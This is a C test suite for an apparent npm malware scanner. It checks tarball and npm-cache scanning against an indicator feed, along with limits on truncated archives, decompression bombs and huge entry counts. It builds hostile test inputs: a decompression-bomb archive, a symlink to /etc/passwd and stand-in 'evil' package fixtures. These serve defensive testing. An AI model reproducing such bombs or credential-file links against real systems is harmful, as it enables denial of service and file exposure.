	ck_assert_ptr_nonnull(strstr(ws_error_last(), "junk.tgz: not a tar archive"));
	ck_assert_int_eq(scan_tarball_mem(&fx_report, gz_junk, sizeof(gz_junk),
					  "gz.tgz", &fx_opts), WS_EPARSE);
	ck_assert_int_eq(scan_tarball_mem(&fx_report, "", 0, "empty.tgz",
					  &fx_opts), WS_EPARSE);
	ck_assert_uint_eq(fx_report.nfindings, 0);
}
END_TEST

START_TEST(tarball_truncated_is_reported_not_fatal)
{
	const struct fx_file files[] = {
		{ payload_bundle, sizeof(payload_bundle) - 1, "bundle.js", NULL, 0 },
	};
	struct tar_entry e[] = {
		{ "package/bundle.js", E_FILE, TXT(payload_bundle) },
		{ "package/big.bin", E_FILE, NULL, 1u << 20 },
		{ "package/after.js", E_FILE, TXT("x") },
	};
	struct tgz t;
	unsigned char *noise = xmalloc(1u << 20);
	size_t i;
	int err;

	for (i = 0; i < (1u << 20); i++)
		noise[i] = (unsigned char)((i * 2654435761u) >> 13);
	e[1].data = noise;
	fx_feed_files(files, 1);
	tgz_build(&t, e, 3, 1);
	err = scan_tarball_mem(&fx_report, t.buf, t.len / 2, "cut.tgz", &fx_opts);
	ck_assert_int_eq(err, 0);
	ck_assert(error_has("cut.tgz: "));
	ck_assert_uint_eq(count_kind("ioc-file"), 1);
	free(t.buf);
	free(noise);
}
END_TEST

START_TEST(tarball_decompression_bomb_is_stopped)
{
	const struct tar_entry e[] = {
		{ "package/zeros.js", E_FILE, NULL, SCAN_TARBALL_UNPACKED_MAX + (8u << 20) },
		{ "package/after.js", E_FILE, TXT("x") },
	};
	const struct fx_file files[] = {
		{ "x", 1, "after.js", NULL, 0 },
	};
	struct tgz t;

	fx_feed_files(files, 1);
	tgz_build(&t, e, 2, 1);
	ck_assert_uint_lt(t.len, 4u << 20);	/* a bomb: small outside */
	ck_assert_int_eq(scan_tarball_mem(&fx_report, t.buf, t.len, "bomb.tgz",
					  &fx_opts), 0);
	if (!error_has("decompression bomb"))
		dump_errors();
	ck_assert(error_has("decompression bomb"));
	ck_assert(error_has("stopped"));
	ck_assert_uint_eq(count_kind("ioc-file"), 0);
	free(t.buf);
}
END_TEST

START_TEST(tarball_entry_too_big_to_hash_is_skipped)
{
	const struct tar_entry e[] = {
		{ "package/big.js", E_FILE, NULL, SCAN_HASH_MAX + 1 },
		{ "package/after.js", E_FILE, TXT("x") },
	};
	const struct fx_file files[] = {
		{ "x", 1, "after.js", NULL, 0 },
	};
	struct tgz t;

	fx_feed_files(files, 1);
	tgz_build(&t, e, 2, 1);
	ck_assert_int_eq(scan_tarball_mem(&fx_report, t.buf, t.len, "big.tgz",
					  &fx_opts), 0);
	ck_assert(error_has("entry \"big.js\": larger than"));
	ck_assert_uint_eq(count_kind("ioc-file"), 1);
	free(t.buf);
}
END_TEST

START_TEST(tarball_too_many_entries_is_stopped)
{
	size_t n = SCAN_TARBALL_ENTRIES_MAX + 5, i;
	struct tar_entry *e = xcalloc(n, sizeof(*e));
	struct tgz t;

	fx_bundled_rules();
	for (i = 0; i < n; i++) {
		e[i].name = "package/d";
		e[i].type = E_DIR;
	}
	tgz_build(&t, e, n, 1);
	ck_assert_int_eq(scan_tarball_mem(&fx_report, t.buf, t.len, "many.tgz",
					  &fx_opts), 0);
	ck_assert(error_has("more than 100000 entries"));
	free(t.buf);
	free(e);
}
END_TEST

START_TEST(tarball_from_file_and_missing_file)
{
	const struct fx_file files[] = {
		{ payload_bundle, sizeof(payload_bundle) - 1, "bundle.js", NULL, 0 },
	};
	const struct tar_entry e[] = {
		{ "package/package.json", E_FILE, TXT(manifest_evil) },
		{ "package/bundle.js", E_FILE, TXT(payload_bundle) },
	};
	struct tgz t;
	char *path;

	fx_feed_files(files, 1);
	tgz_build(&t, e, 2, 1);
	fx_write_n("evil.tgz", t.buf, t.len);
	path = fx_path("evil.tgz");
	ck_assert_int_eq(scan_tarball(&fx_report, path, &fx_opts), 0);
	ck_assert_uint_eq(count_kind("ioc-file"), 1);
	ck_assert_str_eq(find("ioc-file", NULL)->target, path);
	ck_assert_int_eq(scan_tarball(&fx_report, "/nonexistent/x.tgz", &fx_opts),
			 WS_ENOTFOUND);
	free(path);
	free(t.buf);
}
END_TEST

/* ---- npm's cache ---- */

START_TEST(npm_cache_tarballs_are_scanned)
{
	const struct fx_file files[] = {
		{ payload_bundle, sizeof(payload_bundle) - 1, "bundle.js", NULL, 0 },
	};
	const struct tar_entry e[] = {
		{ "package/package.json", E_FILE, TXT(manifest_evil) },
		{ "package/bundle.js", E_FILE, TXT(payload_bundle) },
	};
	const struct report_finding *f;
	struct tgz t;
	char *cache;

	fx_feed_files(files, 1);
	tgz_build(&t, e, 2, 1);
	fx_write_n("npm/_cacache/content-v2/sha512/ab/cd/ef0123", t.buf, t.len);
	fx_write("npm/_cacache/content-v2/sha512/12/34/packument",
		 "{\"name\":\"evil\",\"versions\":{}}");
	fx_write("npm/_cacache/index-v5/aa/bb/index", "junk");
	fx_link("npm/_cacache/content-v2/sha512/ab/cd/link", "/etc/passwd");
	cache = fx_path("npm");
	ck_assert_int_eq(scan_npm_cache(&fx_report, cache, &fx_opts), 0);
	ck_assert_uint_eq(count_kind("ioc-file"), 1);
	f = find("ioc-file", NULL);
	ck_assert_str_eq(f->package_name, "evil");
	ck_assert_str_eq(f->package_version, "1.2.3");
	ck_assert_str_eq(f->target, cache);
	ck_assert_ptr_nonnull(strstr(f->file, "content-v2/sha512/ab/cd/ef0123"));
	ck_assert(error_has("sha512/ab/cd/link: symlink, not followed"));
	free(cache);

	/* the _cacache directory itself works too */
	cache = fx_path("npm/_cacache");
	ck_assert_int_eq(scan_npm_cache(&fx_report, cache, &fx_opts), 0);
	ck_assert_uint_eq(count_kind("ioc-file"), 2);
	free(cache);
	free(t.buf);
}
END_TEST

START_TEST(npm_cache_missing_is_not_found)
{
	char *dir;

	fx_write("empty/file", "x");
	dir = fx_path("empty");
	ck_assert_int_eq(scan_npm_cache(&fx_report, dir, &fx_opts), WS_ENOTFOUND);
	ck_assert_ptr_nonnull(strstr(ws_error_last(), "not an npm cache"));
	free(dir);
}
END_TEST

START_TEST(npm_cache_broken_tarball_is_reported)
{
	static const unsigned char gz_junk[] = { 0x1f, 0x8b, 0x08, 0, 0, 0, 0, 0, 0, 3, 0xde, 0xad };
	char *cache;

	fx_bundled_rules();
	fx_write_n("npm/_cacache/content-v2/sha512/00/11/bad", gz_junk, sizeof(gz_junk));
	cache = fx_path("npm");
	ck_assert_int_eq(scan_npm_cache(&fx_report, cache, &fx_opts), 0);
	ck_assert(error_has("not a tar archive"));
	free(cache);
}
END_TEST

static Suite *
payload_suite(void)
{
	Suite *s = suite_create("payload");
	TCase *tc;

	tc = tcase_create("hash");
	tcase_add_test(tc, sha256_of_known_vectors);
	suite_add_tcase(s, tc);

	tc = tcase_create("scripts");
	tcase_add_loop_test(tc, script_targets_of_common_shapes, 0,
			    (int)(sizeof(script_cases) / sizeof(*script_cases)));
	tcase_add_test(tc, script_targets_are_bounded);
	suite_add_tcase(s, tc);

	tc = tcase_create("entry_names");
	tcase_add_loop_test(tc, entry_names_are_normalised_or_refused, 0,
			    (int)(sizeof(name_cases) / sizeof(*name_cases)));
	tcase_add_test(tc, entry_name_too_long_is_refused);
	suite_add_tcase(s, tc);

	tc = tcase_create("installed");
	tcase_add_checked_fixture(tc, fx_setup, fx_teardown);
	tcase_set_timeout(tc, 60);
	tcase_add_test(tc, installed_root_js_matches_feed);
	tcase_add_test(tc, installed_named_file_matches_whatever_its_extension);
	tcase_add_test(tc, installed_script_targets_are_hashed_in_subdirectories);
	tcase_add_test(tc, installed_symlinks_are_not_followed);
	tcase_add_test(tc, installed_rules_scan_manifest_and_js);
	tcase_add_test(tc, installed_big_file_is_streamed_and_huge_one_reported);
	tcase_add_test(tc, installed_sha1_only_entries_match_by_name);
	tcase_add_test(tc, installed_wide_package_checks_named_files_first);
	tcase_add_test(tc, installed_hostile_locations_are_refused);
	tcase_add_test(tc, installed_missing_root_is_not_found);
	tcase_add_test(tc, installed_nothing_to_look_for_reads_nothing);
	suite_add_tcase(s, tc);

	tc = tcase_create("tarball");
	tcase_add_checked_fixture(tc, fx_setup, fx_teardown);
	tcase_set_timeout(tc, 120);
	tcase_add_test(tc, tarball_matches_feed_and_names_its_package);
	tcase_add_test(tc, tarball_refuses_traversal_absolute_and_links);
	tcase_add_test(tc, tarball_plain_tar_is_read_too);
	tcase_add_test(tc, tarball_not_an_archive_is_a_parse_error);
	tcase_add_test(tc, tarball_truncated_is_reported_not_fatal);
	tcase_add_test(tc, tarball_decompression_bomb_is_stopped);
	tcase_add_test(tc, tarball_entry_too_big_to_hash_is_skipped);
	tcase_add_test(tc, tarball_too_many_entries_is_stopped);
	tcase_add_test(tc, tarball_from_file_and_missing_file);
	suite_add_tcase(s, tc);

	tc = tcase_create("npm_cache");
	tcase_add_checked_fixture(tc, fx_setup, fx_teardown);
	tcase_add_test(tc, npm_cache_tarballs_are_scanned);
	tcase_add_test(tc, npm_cache_missing_is_not_found);
	tcase_add_test(tc, npm_cache_broken_tarball_is_reported);
	suite_add_tcase(s, tc);
	return s;
}

int
main(void)
{
	SRunner *sr = srunner_create(payload_suite());
	int failed;

	srunner_run_all(sr, CK_NORMAL);
	failed = srunner_ntests_failed(sr);
	srunner_free(sr);
	return failed ? EXIT_FAILURE : EXIT_SUCCESS;
}
